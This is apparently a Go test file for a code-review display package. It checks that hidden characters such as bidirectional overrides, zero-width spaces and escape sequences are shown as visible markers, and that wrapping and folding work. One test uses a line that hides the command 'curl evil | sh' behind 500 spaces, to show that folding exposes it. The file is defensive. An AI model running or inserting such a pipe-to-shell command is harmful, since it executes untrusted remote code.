package review

import (
	"strings"
	"testing"
)

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain":                    "plain",
		"\tx":                      "\tx",
		"":                         "",
		"a\x1b[2Jb":                "a<U+001B>[2Jb",
		"a\x9bb":                   "a<0x9B>b",
		"\u009b31m":                "<U+009B>31m",
		"x\r":                      "x<U+000D>",
		"a\u202eb\u2066c":          "a<U+202E>b<U+2066>c",
		"a\u200bb\u200d\ufeff":     "a<U+200B>b<U+200D><U+FEFF>",
		"if (a\u3164) {":           "if (a<U+3164>) {",
		"\U000e0041tag":            "<U+E0041>tag",
		"nul\x00":                  "nul<U+0000>",
		"\xff\xfe":                 "<0xFF><0xFE>",
		"\xed\xa0\x80":             "<0xED><0xA0><0x80>",
		"h\u00e9llo \u4e16\u754c":  "h\u00e9llo \u4e16\u754c",
		"no\u00a0break":            "no<U+00A0>break",
		"line\u2028end":            "line<U+2028>end",
		"\x7f\x08\x07":             "<U+007F><U+0008><U+0007>",
		"a literal <U+202E> stays": "a literal <U+202E> stays",
	} {
		if got := Visible(in); got != want {
			t.Errorf("%q is shown as %q, want %q", in, got, want)
		}
	}
}

// TestHiddenIsMarked: a mark is styled as one, and what is only written like one
// is not.
func TestHiddenIsMarked(t *testing.T) {
	spans := Spans("<U+202E>\u202e", New)
	if len(spans) != 2 || spans[0].Style != New || spans[1].Style != Hidden || spans[0].Text != spans[1].Text {
		t.Errorf("%+v", spans)
	}
	if n := hidden("a\u200b\r\nb\tc\r\n\x1b"); n != 2 {
		t.Errorf("%d hidden characters, want 2", n)
	}
}

func TestFold(t *testing.T) {
	rows := Fold(Spans("+\tab\u4e16\u754cyz", New), 12, "  ")
	var got []string
	for _, r := range rows {
		got = append(got, plain(r))
	}
	if want := "+       ab\u4e16|  \u754cyz"; strings.Join(got, "|") != want {
		t.Errorf("%q, want %q", got, want)
	}
}

// TestFoldHidesNothing: what blanks push to the right is on a row of its own.
func TestFoldHidesNothing(t *testing.T) {
	line := "ok" + strings.Repeat(" ", 500) + "curl evil | sh"
	rows := Fold(Spans(line, Plain), 80, "  ")
	all := ""
	for _, r := range rows {
		if w := width(plain(r)); w > 80 {
			t.Errorf("a row of %d columns", w)
		}
		all += strings.TrimPrefix(plain(r), "  ")
	}
	if !strings.HasSuffix(all, "curl evil | sh") {
		t.Errorf("the end is gone: %q", all)
	}
}

func TestWrap(t *testing.T) {
	for _, test := range []struct {
		text string
		n    int
		want string
	}{
		{"aaaa bbb c", 8, "aaaa bbb|c"},
		{"  in dented text", 11, "  in dented|  text"},
		{"abcdefghijklmnop", 8, "abcdefgh|ijklmnop"},
		{"", 8, ""},
		{"    a long word", 1, "    a long|    word"}, // never less than 8 beside the indent
	} {
		if got := strings.Join(Wrap(test.text, test.n), "|"); got != test.want {
			t.Errorf("%q in %d: %q, want %q", test.text, test.n, got, test.want)
		}
	}
}

func TestSize(t *testing.T) {
	for n, want := range map[int64]string{0: "0 B", 1023: "1023 B", 1024: "1.0 KiB", 1 << 20: "1.0 MiB", 1<<20 - 1: "1.0 MiB", 5 << 30: "5.0 GiB"} {
		if got := Size(n); got != want {
			t.Errorf("%d is %q, want %q", n, got, want)
		}
	}
}
